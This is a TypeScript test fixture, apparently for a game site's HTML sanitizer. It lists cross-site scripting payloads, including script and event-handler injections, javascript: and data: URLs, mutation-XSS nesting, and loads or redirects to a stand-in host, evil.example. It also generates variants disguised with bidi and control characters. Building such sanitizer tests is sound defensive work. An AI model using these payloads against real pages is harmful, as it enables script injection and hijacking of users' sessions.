// Texts with which somebody tries to run a script on a player's page.
export const hostileTexts: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>',
  '<body onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">go</button>',
  '<a href="javascript:alert(1)">go</a>',
  '<a href="JaVaScRiPt:alert(1)">go</a>',
  '<a href="java\tscript:alert(1)">go</a>',
  '<a href="&#106;avascript:alert(1)">go</a>',
  '<a href="\u0001javascript:alert(1)">go</a>',
  '<a href="data:text/html,<script>alert(1)</script>">go</a>',
  '<a href="vbscript:msgbox(1)">go</a>',
  '<a href="//evil.example">go</a>',
  '<a href="/\\evil.example">go</a>',
  '<a href="/m/help" onclick="alert(1)">go</a>',
  '<a href="/m/help" style="position:fixed;inset:0">go</a>',
  '<p style="background:url(javascript:alert(1))">go</p>',
  '<p onmouseover=alert(1)>go</p>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<style>@import "//evil.example";</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<!--><img src=x onerror=alert(1)-->',
  '<table background="javascript:alert(1)"><tr><td>go</td></tr></table>',
  '"><img src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<isindex type=image src=1 onerror=alert(1)>',
];

/** Signs that turn the direction of text, hide or split it. */
const disguises = [
  '\u202a',
  '\u202b',
  '\u202d',
  '\u202e',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u0000',
  '\u0008',
  '\u001b',
  '\u007f',
  '\u0085',
];

/** As many different texts: each hostile one with signs before, within and after it. */
export function hostileVariants(count: number): string[] {
  return Array.from({ length: count }, (_, n) => {
    const text = hostileTexts[n % hostileTexts.length] ?? '';
    const sign = disguises[n % disguises.length] ?? '';
    const at = (n * 7) % text.length;
    const turned = `${sign}${text.slice(0, at)}${sign}${text.slice(at)}${n % 3 === 0 ? '\u202c' : ''}`;
    return n < hostileTexts.length ? turned : `${turned} ${n}`;
  });
}
